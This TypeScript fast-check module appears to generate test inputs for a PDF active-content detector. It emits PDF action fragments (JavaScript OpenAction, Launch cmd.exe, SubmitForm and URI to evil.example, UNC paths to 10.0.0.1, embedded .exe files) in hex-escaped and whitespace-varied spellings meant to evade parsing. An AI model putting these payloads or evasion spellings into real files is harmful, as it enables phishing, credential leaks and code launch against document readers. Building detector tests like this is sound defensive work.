import fc from 'fast-check'

/** A name in one of its spellings: every character may be written as its code. */
export const spelled = (name: string): fc.Arbitrary<string> =>
  fc
    .array(fc.boolean(), { minLength: name.length, maxLength: name.length })
    .map((isEscaped) =>
      [...name]
        .map((sign, index) => (isEscaped[index] ? `#${sign.charCodeAt(0).toString(16).padStart(2, '0')}` : sign))
        .join(''),
    )

const space = fc.constantFrom(' ', '\n', '\r\n', '%comment\n', '\t', '\0', '\x80', '\xff', '#00 ', '')

/** What makes a file active: entries of the catalog, the page or an annotation. `%1` is the spelled name, `%2` a space. */
const PAYLOADS = [
  ['JS', '/OpenAction << /S /JavaScript /%1%2(app.alert\\(1\\)) >>'],
  ['JavaScript', '/OpenAction%2<< /S /%1 /J#53 (app.alert\\(1\\)) >>'],
  ['JavaScript', '/Names << /%1 << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>'],
  ['AA', '/%1%2<< /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'],
  ['Launch', '/OpenAction << /S /%1%2/F (cmd.exe) >>'],
  ['SubmitForm', '/OpenAction << /S /%1 /F (https://evil.example) >>'],
  ['EmbeddedFiles', '/Names << /%1 << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>'],
  ['RichMedia', '/Annots [<< /Subtype /%1 /Rect [0 0 9 9] >>]'],
  ['XFA', '/AcroForm << /Fields [] /%1 [(template) 9 0 R] >>'],
  ['URI', '/OpenAction << /S /%1%2/URI (https://evil.example) >>'],
  ['GoToR', '/OpenAction << /S /%1 /F (\\\\\\\\10.0.0.1\\\\a.pdf) >>'],
  ['ImportData', '/OpenAction << /S /%1 /F (a.fdf) >>'],
  ['Rendition', '/OpenAction << /S /%1 /OP 0 >>'],
  ['SetOCGState', '/OpenAction << /S /%1 /State [/OFF 9 0 R] >>'],
  ['Ref', '/Y << /Subtype /Form /%1%2<< /F (https://evil.example/a.pdf) /Page 0 >> >>'],
  ['Ref', '/Y << /Subtype /Form /%1%29 0 R >>'],
  ['OPI', '/Y << /Subtype /Image /%1%2<< /1.3 << /Version 1.3 /F (\\\\\\\\10.0.0.1\\\\a.tif) >> >> >>'],
  ['FS', '/Y << /Type /Filespec /%1%2/U#52L /F (https://evil.example/a) >>'],
  ['FS', '/Y << /Type /Filespec /%1%29 0 R /F (https://evil.example/a) >>'],
  ['FFilter', '/Y << /F (https://evil.example/a) /%1 /FlateDecode >>'],
  ['FDecodeParms', '/Y << /F (https://evil.example/a) /%1 << >> >>'],
] as const

/** Entries with active content, in one of its spellings. */
export const payload: fc.Arbitrary<string> = fc
  .constantFrom(...PAYLOADS)
  .chain(([name, text]) =>
    fc.tuple(spelled(name), space).map(([written, gap]) => text.replaceAll('%1', () => written).replaceAll('%2', gap || ' ')),
  )
